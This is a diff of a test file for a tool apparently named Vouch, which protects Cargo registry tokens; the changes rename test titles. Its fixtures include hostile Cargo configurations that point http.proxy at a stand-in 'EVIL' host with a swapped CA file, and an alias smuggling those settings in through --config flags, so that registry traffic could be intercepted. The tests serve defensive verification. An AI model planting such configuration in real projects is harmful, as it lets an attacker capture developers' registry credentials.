@@ -68,7 +68,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
   const hostile = '[http]\nproxy = "http://EVIL"\ncainfo = "ca.pem"\n';
   const proxyAndCa = "sets http.proxy, http.cainfo:";
 
-  test("an honest configuration changes nothing", async () => {
+  test("with an honest configuration builds as without Vouch", async () => {
     const text = '[build]\njobs = 1\n[http]\ntimeout = 30\n[net]\nretry = 1\n[alias]\nx = "run --package x"\n';
     await ended(cargo(["fetch"], { cwd: project({ ".cargo/config.toml": text }) }));
     expect(evil.requests).toEqual([]);
@@ -99,7 +99,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
       proxyAndCa,
     ],
   ])(
-    "%s: no token leaves, and the person reads which file and key",
+    "gets no token, and the person reads which file and key: %s",
     async (_, files, says) => {
       const { exitCode, stderr } = await cargo(["fetch"], { cwd: project(files) });
       expect(exitCode).not.toBe(0);
@@ -123,7 +123,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
     ["an alias of the user's that means it", (folder) => ["put", folder], 'put = "install --path"'],
     ["an alias of the environment", (folder) => ["put", folder], ""],
   ])(
-    "cargo install %s from a clean folder: DIR's configuration counts",
+    "is given by cargo install %s from a clean folder, and DIR's configuration counts",
     async (_, args, alias) => {
       const config = join(laptop.home, ".cargo/config.toml");
       const before = readFileSync(config, "utf8");
@@ -141,7 +141,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
     120_000,
   );
 
-  test("cargo install CRATE reads the folders above CARGO_HOME: they count", async () => {
+  test("above CARGO_HOME counts for cargo install CRATE, which reads it", async () => {
     const shared = project({ "../.cargo/config.toml": hostile.replace("ca.pem", "CAPATH") });
     const cargoHome = join(shared, "cargo-home");
     mkdirSync(cargoHome);
@@ -153,7 +153,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
     expect(evil.requests.join("\n")).not.toMatch(token);
   }, 120_000);
 
-  test("a wrapper between Cargo and Vouch hides nothing", async () => {
+  test("is seen through a wrapper between Cargo and Vouch", async () => {
     const wrapper = join(laptop.folder, "wrapper");
     writeFileSync(wrapper, `#!/bin/sh\n"${executable}" "$@"\n`, { mode: 0o755 });
     const env = { CARGO_REGISTRIES_MY_CODEARTIFACT_REGISTRY_CREDENTIAL_PROVIDER: wrapper };
@@ -164,7 +164,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
     await ended(cargo(["fetch"], { cwd: project({}), env }));
   }, 120_000);
 
-  test("an alias of the project that brings other configuration is refused when it is used", async () => {
+  test("with an alias that brings other configuration is refused when the alias is used", async () => {
     const config = `[alias]\nget = ["fetch", "--config", "http.proxy='http://EVIL'", "--config", "http.cainfo='CAPATH'"]\n`;
     const folder = project({ ".cargo/config.toml": config });
     const { stderr } = await cargo(["get"], { cwd: folder });
@@ -174,7 +174,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
     await ended(cargo(["fetch"], { cwd: folder }));
   }, 120_000);
 
-  test("trusted on a terminal it may read, never publish; a changed certificate asks again", async () => {
+  test("that is trusted on a terminal may read, never publish, and a changed certificate asks again", async () => {
     const folder = project({ ".cargo/config.toml": hostile });
     expect((await laptop.vouch("trust", folder)).exitCode).toBe(2);
     const no = await laptop.atTerminal(["trust", folder], async ({ see, type }) => {
@@ -211,7 +211,7 @@ describe.skipIf(!requires("cargo"))("a cloned project", () => {
     expect(JSON.parse(await ended(laptop.vouch("trust", "--list", "--json")))).toEqual([]);
   }, 240_000);
 
-  test("a foreign index is foreign, whatever the project sets", async () => {
+  test("does not make a foreign index ours, whatever it sets", async () => {
     const folder = project({ ".cargo/config.toml": hostile });
     const request = {
       v: 1,
